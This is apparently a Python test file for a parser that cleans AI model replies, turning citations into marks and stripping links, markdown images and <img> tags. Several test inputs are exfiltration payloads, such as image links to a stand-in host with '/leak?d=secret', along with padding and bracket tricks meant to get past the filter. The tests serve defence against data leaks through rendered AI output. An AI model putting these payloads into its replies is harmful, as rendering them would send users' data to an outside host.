import pytest
from hypothesis import given
from hypothesis import strategies as st

from lilbee_core.answer._marks import Address, Mark, Piece, ReplyReader


def read(*pieces: str) -> list[Piece]:
    reader = ReplyReader()
    found = [one for piece in pieces for one in reader.feed(piece)]
    return [*found, *reader.close()]


def shown(found: list[Piece]) -> str:
    """Return one text, marks as ⟨n⟩ and addresses as ⟪...⟫."""
    return "".join(map(_shown, found))


def _shown(piece: Piece) -> str:
    if isinstance(piece, Mark):
        return f"{piece.lead}⟨{','.join(map(str, piece.numbers))}⟩"
    return f"⟪{piece.text}⟫" if isinstance(piece, Address) else piece


@pytest.mark.parametrize(
    ("reply", "expected"),
    [
        ("Built in 1911 [1].", "Built in 1911 ⟨1⟩."),
        ("Grey[2][3]", "Grey⟨2,3⟩"),
        ("Grey [2] [3].", "Grey ⟨2,3⟩."),
        ("See [1, 2; 4].", "See ⟨1,2,4⟩."),
        ("See [1-3].", "See ⟨1,2,3⟩."),
        ("See [^1].", "See ⟨1⟩."),
        ("See [passage 2].", "See ⟨2⟩."),
        ("See 【1†source】.", "See ⟨1⟩."),
        ("[1](http://evil.example/x) it is", "⟨1⟩ it is"),
        ("[the plan](http://evil.example/x) it is", "the plan it is"),
        ("a ![x](http://203.0.113.9/leak?d=secret) b", "a b"),
        ("a ![x\ny](http://203.0.113.9/l) b", "a b"),
        ("a ![x][1] b", "a b"),
        ('<img src="http://203.0.113.9/">b', "b"),
        ("<a href='http://x'>b</a>", "b"),
        ("a < b and b > c", "a < b and b > c"),
        ("`list[0]` and\n```\na[1]\n```\n[1]", "`list[0]` and\n```\na[1]\n```\n⟨1⟩"),
        ("an ` alone [1]\nand [2]", "an ` alone ⟨1⟩\nand ⟨2⟩"),
        ("[x] and [y]: no", "[x] and [y] : no"),
        ("[unclosed", "[unclosed"),
        ("wow!", "wow!"),
        ("two  blanks  [1]  here ", "two  blanks  ⟨1⟩  here "),
        ("<context> stays", "<context> stays"),
        ("", ""),
        ("see http://a.example/x?y=1. And", "see ⟪http://a.example/x?y=1⟫. And"),
        ("see (https://a.example/b), HTTP://C.example", "see (⟪https://a.example/b⟫), ⟪HTTP://C.example⟫"),
        ("<http://a.example> and www.b.example!", "<⟪http://a.example⟫> and ⟪www.b.example⟫!"),
        ("ftp://a.example/x [1]", "⟪ftp://a.example/x⟫ ⟨1⟩"),
        ("xhttp://a and `http://b`, awww. Well", "x⟪http://a⟫ and `http://b`, awww. Well"),
        ("the http and www", "the http and www"),
        ("[http://a.example](http://b.example)", "http://a.example"),
    ],
)
def test_what_is_read(reply, expected):
    assert shown(read(reply)) == expected
    assert shown(read(*reply)) == expected, "letter by letter"


@pytest.mark.parametrize(
    "reply",
    [
        "![" + "x" * 400 + "](http://203.0.113.9/)",
        "![x](" + "y" * 4000 + ")",
        "![x](http://203.0.113.9/ 'a)b' )",
        "![a [b] c](http://203.0.113.9/)",
        "![x](http://203.0.113.9/(((a)))",
        "<img " + "x" * 3000 + " src=http://203.0.113.9/>",
        "[x]: http://203.0.113.9/\n![x]",
    ],
)
def test_nothing_loads_whatever_the_trick(reply):
    text = shown(read(reply))

    assert "](" not in text
    assert "]:" not in text
    assert "<img" not in text
    assert "![" not in text


@given(
    st.lists(
        st.sampled_from(
            [
                *"ab1 \n`![]()<>/:\"'-,^【】",
                "```",
                "[1]",
                "![x](u)",
                "<img ",
                "[2",
                "](",
                " [3] ",
                "http://",
                "www.",
                "htt",
                "w",
            ]
        )
    )
)
def test_the_pieces_do_not_matter(parts):
    reply = "".join(parts)

    assert shown(read(*parts)) == shown(read(reply)) == shown(read(*reply))


@given(st.text(alphabet="ab`![]()<> img/", max_size=40))
def test_no_address_survives_outside_code(reply):
    text = shown(read(reply.replace("`", "")))

    assert "](" not in text
    assert "<img" not in text


def test_what_is_held_back_stays_small():
    reader = ReplyReader()
    told = 0
    for _ in range(2000):
        told += sum(len(one) for one in reader.feed("[abc(def") if isinstance(one, str))

    assert told > 12_000


def test_removals_are_counted():
    reader = ReplyReader()
    list(reader.feed("![x](u) [y](v) <img src=z> [1]"))
    list(reader.close())

    assert reader.removed == 3
